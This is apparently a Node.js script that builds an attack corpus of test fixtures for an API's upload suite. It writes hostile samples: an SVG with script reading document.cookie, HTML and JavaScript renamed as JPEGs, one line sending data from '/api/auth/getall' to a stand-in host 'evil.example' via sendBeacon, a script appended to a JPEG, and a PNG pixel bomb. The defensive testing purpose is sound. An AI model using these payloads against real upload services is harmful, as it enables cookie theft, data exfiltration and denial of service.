// Writes the upload attack corpus (apps/api/test/fixtures/attack-corpus) that the upload suite replays.
// Everything in it is made here; run again to regenerate: node scripts/make-attack-corpus.mjs
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { crc32 } from 'node:zlib';
import sharp from 'sharp';

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');
const out = path.join(root, 'apps/api/test/fixtures/attack-corpus');
fs.rmSync(out, { recursive: true, force: true });
fs.mkdirSync(out, { recursive: true });
const write = (name, bytes) => fs.writeFileSync(path.join(out, name), bytes);

const jpeg = await sharp({ create: { width: 320, height: 240, channels: 3, background: '#2563eb' } }).jpeg().toBuffer();

write(
  'svg-with-script.svg',
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(1)"><script>alert(document.cookie)</script><rect width="100" height="100"/></svg>\n',
);
write('html-renamed.jpg', '<!doctype html><html><body><script>fetch("/api/auth/getall").then(r=>r.text()).then(alert)</script></body></html>\n');
write('script-renamed.jpg', 'fetch("/api/auth/getall").then((r) => r.text()).then((t) => navigator.sendBeacon("https://evil.example", t));\n');
write('jpeg-with-appended-script.jpg', Buffer.concat([jpeg, Buffer.from('<script>alert("appended")</script>')]));

// A real PNG header that claims 20000 x 20000 pixels (400 megapixels) in a few bytes.
const chunk = (type, data) => {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
};
const ihdr = Buffer.alloc(13);
ihdr.writeUInt32BE(20000, 0);
ihdr.writeUInt32BE(20000, 4);
ihdr.writeUInt8(8, 8);
ihdr.writeUInt8(2, 9);
write(
  'pixel-bomb-20000x20000.png',
  Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), chunk('IDAT', Buffer.from([0x78, 0x9c, 0x03, 0x00])), chunk('IEND', Buffer.alloc(0))]),
);
write('truncated.jpg', jpeg.subarray(0, Math.floor(jpeg.length / 3)));
write('zero-byte.jpg', Buffer.alloc(0));
write('valid-for-traversal-name.jpg', jpeg);
process.stdout.write(`wrote ${fs.readdirSync(out).length} files to ${path.relative(root, out)}\n`);
